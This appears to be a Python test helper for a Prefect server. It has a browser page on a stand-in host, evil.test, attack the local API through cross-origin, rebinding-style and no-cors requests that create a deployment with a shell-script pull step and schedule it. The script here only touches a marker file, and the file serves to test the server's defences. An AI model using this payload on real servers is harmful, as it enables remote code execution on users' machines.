"""What a hostile web page does to a Prefect server: it makes a deployment whose pull step is a shell script."""

from __future__ import annotations

import http.server
import threading
from pathlib import Path
from typing import Any

WAYS = ("a page of another origin", "a page whose name leads to this machine", "a request without a type")

# The last way reads no answer, as a page of another origin may not: that the server took the request is seen later.
PAGE = """
async ({api, name, script, blind}) => {
  const post = async (path, body) => {
    const text = JSON.stringify(body);
    const options = blind
      ? {method: "POST", mode: "no-cors", body: new Blob([text])}
      : {method: "POST", body: text, headers: {"Content-Type": "application/json"}};
    const answer = await fetch(api + path, options);
    if (blind) return {};
    if (!answer.ok) throw new Error(answer.status);
    return answer.json();
  };
  try {
    const flow = await post("/flows/", {name});
    if (blind) return "sent";
    const step = {"prefect.deployments.steps.run_shell_script": {script}};
    const deployment = await post("/deployments/", {
      name, flow_id: flow.id, work_pool_name: "local", entrypoint: "flow.py:flow", pull_steps: [step]});
    await post(`/deployments/${deployment.id}/create_flow_run`, {state: {type: "SCHEDULED"}});
    return "done";
  } catch (error) {
    return String(error);
  }
}
"""


class _Blank(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()

    def log_message(self, *arguments: Any) -> None:
        pass


def attack(browser: Any, port: int, way: str, marker: Path) -> str:
    """Attack the Prefect server at `port` of this machine from a page in the tests' browser; returns what the page saw.

    The flow and the deployment have the way's name. A worker that runs the deployment makes the file `marker`.
    """
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Blank) as elsewhere:
        threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
        page = browser.new_page()
        try:
            if way == WAYS[1]:  # the page is of the server's own origin then, and any answer of the server will do
                page.goto(f"http://evil.test:{port}/api/health")
                api = f"http://evil.test:{port}/api"
            else:
                page.goto(f"http://evil.test:{elsewhere.server_port}/")
                api = f"http://127.0.0.1:{port}/api"
            arguments = {"api": api, "name": way, "script": f"touch '{marker}'", "blind": way == WAYS[2]}
            return str(page.evaluate(PAGE, arguments))
        finally:
            page.close()
            elsewhere.shutdown()
